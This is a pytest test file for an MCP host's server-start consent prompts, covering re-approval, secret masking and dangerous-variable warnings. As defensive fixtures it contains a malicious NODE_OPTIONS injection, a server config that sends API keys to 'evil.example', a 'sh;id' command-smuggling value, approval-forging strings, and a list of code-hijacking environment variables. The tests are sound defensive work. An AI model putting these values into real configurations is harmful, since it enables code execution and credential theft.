"""Consent to the start of a server: the text for the user, and the starts for which a yes is valid."""

from __future__ import annotations

import asyncio
import json
import os
import random
import re
from pathlib import Path
from urllib.parse import quote

import pytest

from mcp_ref import Allow, Approval, Deny, Host
from mcp_ref.client.client import Client
from mcp_ref.host.approval import Approve, Setting
from mcp_ref.host.configuration import read_config
from mcp_ref.host.dangers import command_warnings, is_own_file, variable_danger
from mcp_ref.host.hosted import HostedServer
from mcp_ref.host.launch import Launch
from mcp_ref.host.policy import Account, HostOptions, Policy
from tests.fuzz.consents import check_consent
from tests.host.peers import Person, error, opened, state

EVIL = 'x\nfile: "/home/ada/.cursor/mcp.json"\u2028program: "/usr/bin/true"'


def program(path: Path, text: str = "#!/bin/sh\n") -> str:
    path.parent.mkdir(exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return str(path)


def file_of(folder: Path, **servers: object) -> Path:
    folder.mkdir(exist_ok=True)
    path = folder / "mcp.json"
    path.write_text(json.dumps({"mcpServers": servers}))
    return path


async def prepared(file: Path, approve: Approve, folder: Path, **environment: str) -> Client:
    """Ask for consent to the start of the only server of a file. Return its client, which has started nothing."""
    policy = Policy(HostOptions(file, approve=approve, environment=environment))
    config = read_config(file, folder=folder).servers[0]
    return await HostedServer(config, policy, Account(policy), asyncio.Semaphore()).prepare()


@pytest.mark.attack("consent-in-another-folder")
@pytest.mark.attack("consent-to-another-program")
@pytest.mark.parametrize("seed", range(4))
def test_consent_is_requested_again_for_each_difference_of_a_launch(seed: int) -> None:
    for case in range(18):
        check_consent(random.Random(f"{seed} {case}"))


@pytest.mark.attack("consent-to-another-program")
async def test_start_uses_the_env_file_that_was_approved_and_refuses_another_program(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    tool, env_file = program(tmp_path / "bin" / "tool"), tmp_path / ".env"
    file = file_of(tmp_path / "user", s={"command": "tool", "envFile": ".env"})
    env_file.write_text("MODE=harmless")

    async def change_variable(request: Approval) -> bool:
        env_file.write_text("NODE_OPTIONS=--require=evil.js")
        return True

    client = await prepared(file, change_variable, tmp_path)
    target = client.connector.target
    assert target.options["env"] == {"MODE": "harmless"} and target.server == [tool]

    async def change_program(request: Approval) -> bool:
        os.rename(tool, f"{tool}.old")
        return True

    env_file.write_text("MODE=harmless")
    with pytest.raises(Exception, match="has changed while it waited for consent"):
        await prepared(file, change_program, tmp_path)


@pytest.mark.attack("dangerous-variable")
async def test_path_in_the_env_file_of_a_project_is_shown_and_asked_for(tmp_path: Path) -> None:
    project, marker = tmp_path / "project", tmp_path / "marker"
    entry = {"command": "npx", "args": ["-y", "server-filesystem"], "envFile": "${workspaceFolder}/.env"}
    file = file_of(project, s=entry)
    npx = program(project / "tools" / "npx", f"#!/bin/sh\necho > {marker}\n")
    (project / ".env").write_text(f"PATH={project / 'tools'}\nMODE=1\n")
    own_file = file_of(tmp_path / "user", s=entry)
    person = Person({"variable": Deny("no")})
    for each, approve in ((file, person), (own_file, person), (file, None), (own_file, None)):
        async with opened(Host(read_config(each, folder=project), approve=approve)) as host:
            assert state(host, "s") == "unapproved"
            assert ('start of "s"' if each == file and approve is None else 'variable of "PATH"') in error(host, "s")
    assert person.kinds() == ["start", "variable"] * 2 and not marker.exists()
    start, variable = person.asked[:2]
    assert start.program == npx and start.text().splitlines()[1].startswith('WARNING: "PATH" decides which programs')
    assert (variable.name, variable.file) == ("PATH", str(project / ".env"))
    approvals: dict[str, str] = {}
    person = Person({"start": Allow("always"), "variable": Allow("always")})
    for _ in range(2):
        async with opened(Host(read_config(file, folder=project), approve=person, approvals=approvals)):
            pass
    assert marker.exists() and person.kinds() == ["start", "variable"] * 2  # dangers are never remembered


@pytest.mark.parametrize(
    "name",
    ["PATH", "Path", "LD_PRELOAD", "PERLLIB", "R_LIBS_USER", "JULIA_LOAD_PATH", "TS_NODE_PROJECT", "CC",
     "RSYNC_RSH", "VIMINIT", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "PYTHONPATH", "BASH_ENV",
     "GIT_SSH_COMMAND", "ENV", "PERL5LIB", "RUBYOPT", "JAVA_TOOL_OPTIONS", "NODE_PATH", "npm_config_registry",
     "UV_INDEX_URL", "HOME", "PYENV_VERSION", "ASDF_DATA_DIR", "NODE_COMPILE_CACHE", "GTK_MODULES",
     "PUPPETEER_EXECUTABLE_PATH", "GOPATH", "PIP_INDEX_URL", "https_proxy", "SSL_CERT_FILE", "MAKEFILES",
     "MAKEFLAGS", "KUBECONFIG", "AWS_CONFIG_FILE", "RIPGREP_CONFIG_PATH", "MAVEN_OPTS", "WGETRC"],
)  # fmt: skip
def test_variable_danger_knows_variables_that_run_other_code(name: str) -> None:
    assert variable_danger(name) is not None


@pytest.mark.parametrize(
    "name",
    ["MODE", "API_KEY", "NPM_TOKEN", "PYTHONUNBUFFERED", "NODE_ENV", "LOG_LEVEL", "ENVIRONMENT", "LD_KEY",
     "PIP_PASSWORD"],
)  # fmt: skip
def test_variable_danger_allows_harmless_variables(name: str) -> None:
    assert variable_danger(name) is None


@pytest.mark.attack("hidden-receiver")
async def test_question_names_the_true_host_and_each_variable_that_it_gets(tmp_path: Path) -> None:
    entry = {
        "url": "https://${SITE:-evil.example}/mcp?k=${OPENAI_API_KEY}", "bearer_token_env_var": "GITHUB_PAT",
        "env_http_headers": {"X-Key": "AWS_SECRET"}, "headers": {"X-Mode": "fast", "X-Id": "a ${USER_ID}"},
    }  # fmt: skip
    person = Person()
    secrets = {"OPENAI_API_KEY": "s3cret-1", "GITHUB_PAT": "s3cret-2", "AWS_SECRET": "s3cret-3", "USER_ID": "s3cret-4"}
    await prepared(file_of(tmp_path / "a", s=entry), person, tmp_path, **secrets)
    lines = person.asked[0].text().splitlines()
    assert 'url_host: "evil.example"' in lines and "s3cret" not in repr(person.asked)
    for place, name in (("url: ", "OPENAI_API_KEY"), ('header: "Authorization" ', "GITHUB_PAT"),
                        ('header: "X-Key" ', "AWS_SECRET"), ('header: "X-Id" ', "USER_ID")):  # fmt: skip
        assert f'{place}gets your variable "{name}", sent to "evil.example"' in lines
    assert 'header: "X-Mode" set by the file to "fast", sent to "evil.example"' in lines
    assert 'header: "X-Id" set by the file to "a ${USER_ID}", sent to "evil.example"' in lines
    await prepared(file_of(tmp_path / "a", s={"url": "${URL}/b"}), person, tmp_path, URL="https://evil.example/a")
    assert 'url: "https://evil.example/b"' in person.asked[1].text()


@pytest.mark.attack("value-of-a-variable")
@pytest.mark.parametrize("source", ["file", "envFile"])
async def test_question_shows_each_value_but_secrets_and_warns_of_files_and_addresses(
    tmp_path: Path, source: str
) -> None:
    values = {"MODE": "fast", "API_URL": "https://evil.example/", "SETTINGS": "conf/evil.toml", "API_KEY": "s3cret"}
    entry: dict[str, object] = {"command": "tool", "env": values}
    if source == "envFile":
        entry = {"command": "tool", "envFile": ".env"}
        (tmp_path / ".env").write_text("".join(f"{name}={value}\n" for name, value in values.items()))
    person = Person()
    await prepared(file_of(tmp_path, s=entry), person, tmp_path)
    text = person.asked[0].text()
    for name in ("MODE", "API_URL", "SETTINGS"):
        assert f'variable: "{name}" set by the {source} to "{values[name]}"' in text
    assert f'variable: "API_KEY" set by the {source} to "***"' in text and "s3cret" not in text
    assert [warning.split()[0] for warning in person.asked[0].warnings] == ['"API_URL"', '"SETTINGS"']


@pytest.mark.attack("default-of-an-input")
@pytest.mark.attack("value-of-a-variable")
@pytest.mark.parametrize(
    ("name", "written", "value"),
    [
        ("TOKEN_FILE", "/usr/made/later", "/usr/made/later"),
        ("TOKEN_FILE", "evil.json", "evil.json"),
        ("API_KEY", "${UNSET:-~/made/later}", "~/made/later"),
        ("API_KEY", "${workspaceFolder}/made/later", "/made/later"),
        ("API_URL", "${input:id:-https://evil.example/}", "https://evil.example/"),
        ("API_URL", "https://${input:id:-evil.example}/", "evil.example"),
        ("KUBECONFIG", "${input:id:-/usr/made/later}", "/usr/made/later"),
        ("SETTINGS", "evil.toml", "evil.toml"),
        ("API", "evil.example:8080", "evil.example:8080"),
        ("API", "localhost:8080", "localhost:8080"),
        ("ON_START", "sh;id", "sh;id"),
    ],
)
async def test_question_shows_each_place_and_warns_of_it(tmp_path: Path, name: str, written: str, value: str) -> None:
    person = Person()
    await prepared(file_of(tmp_path, s={"command": "tool", "env": {name: written}}), person, tmp_path)
    line = next(line for line in person.asked[0].text().splitlines() if line.startswith("variable: "))
    assert value in line
    assert [warning.split()[0] for warning in person.asked[0].warnings] == [f'"{name}"']


@pytest.mark.attack("value-of-a-variable")
@pytest.mark.parametrize(
    ("name", "values"),
    [
        ("TOKEN", ["s3cret", "s3cret-2", "https://a.example/", "https://b.example/"]),
        ("TOKEN", ["s3cret", "s3cret-2", "/usr/made/later/a", "/usr/made/later/b"]),
        ("APPLICATION_CREDENTIALS", ["a", "a.json", "b.json"]),
        ("TOKEN", ["s3cret", "/kEy+0/slash", "/usr/made/later/a", "/usr/made/later/b"]),  # a key can begin with a slash
    ],
)
async def test_start_with_a_secret_name_for_another_place_is_asked_again(
    tmp_path: Path, name: str, values: list[str]
) -> None:
    approvals: dict[str, str] = {}
    person = Person({"start": Allow("always")})
    for value in values:
        file = file_of(tmp_path, s={"command": "tool", "envFile": ".env"})
        (tmp_path / ".env").write_text(f"{name}={value}\n")
        policy = Policy(HostOptions(file, approve=person, environment={}, approvals=approvals))
        config = read_config(file, folder=tmp_path).servers[0]
        await HostedServer(config, policy, Account(policy), asyncio.Semaphore()).prepare()
    assert len(person.asked) == 3  # a new secret asks nothing, a new address does


@pytest.mark.attack("input-of-another-file")
async def test_typed_input_is_for_its_file_only_and_a_new_description_is_asked_again(tmp_path: Path) -> None:
    approvals: dict[str, str] = {}
    typed, person = list[str](), Person({"start": Allow("always")})

    async def ask(id: str, description: str, is_password: bool) -> str:
        typed.append(description)
        return f"typed for {description}"

    def file(folder: str, description: str) -> Path:
        server = {"url": f"https://{folder}.example/", "headers": {"X-Id": "${input:token}"}}
        inputs = [{"id": "token", "type": "promptString", "description": description}]
        (tmp_path / folder).mkdir(exist_ok=True)
        path = tmp_path / folder / "mcp.json"
        path.write_text(json.dumps({"inputs": inputs, "servers": {folder: server}}))
        return path

    for description in ("docs", "your token"):
        bank, docs = (read_config(file(*each), folder=tmp_path) for each in (("bank", "bank"), ("docs", description)))
        policy = Policy(HostOptions(bank + docs, approve=person, ask=ask, environment={}, approvals=approvals))
        for config in (*bank.servers, *docs.servers):
            client = await HostedServer(config, policy, Account(policy), asyncio.Semaphore()).prepare()
            expected = description if config.name == "docs" else "bank"
            assert client.connector.target.options.get("headers") == {"X-Id": f"typed for {expected}"}
    assert typed == ["bank", "docs", "bank", "your token"]
    assert [request.server for request in person.asked] == ["bank", "docs", "docs"]


async def test_typed_argument_is_not_shown_as_the_path_of_a_file_that_exists(tmp_path: Path) -> None:
    (tmp_path / "hunter2").touch()
    person, inputs = Person(), [{"id": "token", "type": "promptString", "password": True}]
    server = {"command": program(tmp_path / "server"), "args": ["${input:token}"]}
    path = tmp_path / "mcp.json"
    path.write_text(json.dumps({"inputs": inputs, "servers": {"s": server}}))

    async def ask(id: str, description: str, is_password: bool) -> str:
        return str(tmp_path / "hunter2")

    config = read_config(path, folder=tmp_path)
    policy = Policy(HostOptions(config, approve=person, ask=ask, environment={}))
    await HostedServer(config.servers[0], policy, Account(policy), asyncio.Semaphore()).prepare()
    assert "hunter2" not in person.asked[0].text()


@pytest.mark.attack("forged-approval")
async def test_value_cannot_look_like_another_line_of_an_approval(tmp_path: Path) -> None:
    npx = program(tmp_path / "npx")
    entry = {"command": npx, "args": [EVIL, "a" + " " * 200 + "file: x"], "env": {EVIL: EVIL}}
    file, person = file_of(tmp_path / EVIL.replace("/", "|"), s=entry), Person()
    await prepared(file, person, tmp_path)
    calls = [
        Approval("call", "s", "model", "s.t", arguments={EVIL: EVIL}),
        Approval("elicit", "s", "server", content=EVIL),
    ]
    for text in (request.text(columns) for request in [*person.asked, *calls] for columns in (None, 40, 80)):
        labels = [re.match(r"(\w+: |    \| )", row) for row in text.split("\n")]
        assert None not in labels
        assert sum(row.startswith(("file: ", "program: ")) for row in text.splitlines()) <= 2
    text = person.asked[0].text(40)
    assert f"program: {json.dumps(npx)}" in text.replace("\n    | ", "")
    assert max(map(len, text.splitlines())) == 40


@pytest.mark.attack("value-of-a-variable")
async def test_url_with_a_secret_name_is_shown_without_its_secrets(tmp_path: Path) -> None:
    person = Person()
    url = "https://ada:s3cret@a.example/x?key=s3cret#s3cret"
    await prepared(file_of(tmp_path, s={"command": "tool", "env": {"API_KEY": url}}), person, tmp_path)
    text = person.asked[0].text()
    assert "https://***@a.example/x?***" in text and "s3cret" not in text


@pytest.mark.attack("unasked-start")
def test_file_of_a_project_is_not_the_users_own_from_any_working_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, other = tmp_path / "project", tmp_path / "other"
    (project / "src").mkdir(parents=True)
    other.mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    file = file_of(project, s={"command": "tool"})
    linked = other / "mcp.json"
    linked.symlink_to(file)
    owners = {}
    for control in (False, True):
        if control:
            (project / ".git").mkdir()
        for folder in (project, project / "src", other):
            monkeypatch.chdir(folder)
            owners[control, folder.name] = is_own_file(str(file), str(folder))
            assert not (control and is_own_file(str(linked), str(folder)))
    assert [key for key, is_own in owners.items() if is_own] == [(False, "other")]
    home = file_of(tmp_path / "home", s={"command": "tool"})
    (tmp_path / "home" / "work").mkdir()
    monkeypatch.chdir(tmp_path / "home" / "work")
    assert is_own_file(str(home), str(tmp_path / "home" / "work"))


@pytest.mark.attack("consent-in-another-folder")
async def test_consent_by_a_link_is_not_for_the_folder_that_the_link_leads_to_later(tmp_path: Path) -> None:
    link, asked = tmp_path / "current", list[str | None]()
    for name in ("a", "b", "a"):
        (tmp_path / name).mkdir(exist_ok=True)
        link.unlink(missing_ok=True)
        link.symlink_to(tmp_path / name)
        person = Person()
        await prepared(file_of(tmp_path, s={"command": "tool", "cwd": "current"}), person, tmp_path)
        asked.append(person.asked[0].cwd)
    assert asked == [str((tmp_path / name).resolve()) for name in ("a", "b", "a")]


def test_link_to_a_shell_is_a_warning(tmp_path: Path) -> None:
    program(tmp_path / "bin" / "bash")
    (tmp_path / "server").symlink_to(tmp_path / "bin" / "bash")
    for argv, absolute in ((str(tmp_path / "server"), None), ("./server", str(tmp_path / "server"))):
        assert "shell" in command_warnings((argv,), str(tmp_path), absolute)[0]
    outside = command_warnings(("./run",), str(tmp_path / "project"), str(tmp_path / "outside" / "run"))
    assert outside == ("the program lies outside the folder of the file",)


@pytest.mark.parametrize("secret", ["top\\secret", "it's", 'a"b', "SECRET#12", "a b/c", "TopHost"])
def test_mask_hides_a_secret_in_each_form_in_which_a_text_quotes_it(secret: str) -> None:
    launch = Launch([], None, {}, {}, None, secrets={secret, "xy"})
    forms = [secret, repr(secret), json.dumps(secret), quote(secret, ""), secret.lower(), secret.partition("#")[0]]
    for form in [each for each in forms if len(each.strip("'\"")) > 3]:
        masked = launch.mask(f"a {form} b, xy")
        assert "***" in masked and masked.endswith(" b, xy") and form.strip("'\"") not in masked


def test_text_of_an_approval_has_a_line_for_each_fact_and_its_source() -> None:
    settings = (
        Setting("variable", "A", "file", value="x"), Setting("variable", "B", "removed"),
        Setting("variable", "C", "envFile", value="y"), Setting("header", "D", "environment", of="HOME"),
        Setting("url", "", "input", of="id", value="z"), Setting("argument", "${E}", "input", of="id"),
    )  # fmt: skip
    request = Approval(
        "start", "s", "program", "n", "/f", None, ("a", "b"), ("/p",), "/c", settings, "https://a.example/x",
        reason="new", after=frozenset({"t"}), warnings=("w",),
    )  # fmt: skip
    assert request.text().splitlines() == [
        "start: server s, asked by the program",
        "WARNING: w",
        'program: "not found"',
        'name: "n"',
        'reason: "new"',
        'url_host: "a.example"',
        'url: "https://a.example/x"',
        'argv: ["a", "b"]',
        'path: "/p"',
        'cwd: "/c"',
        'after: ["t"]',
        'variable: "A" set by the file to "x"',
        'variable: "B" removed',
        'variable: "C" set by the envFile to "y"',
        'header: "D" gets your variable "HOME", sent to "a.example"',
        'url: gets what you type for "id", or "z", sent to "a.example"',
        'argument: "${E}" gets what you type for "id"',
        'file: "/f"',
    ]
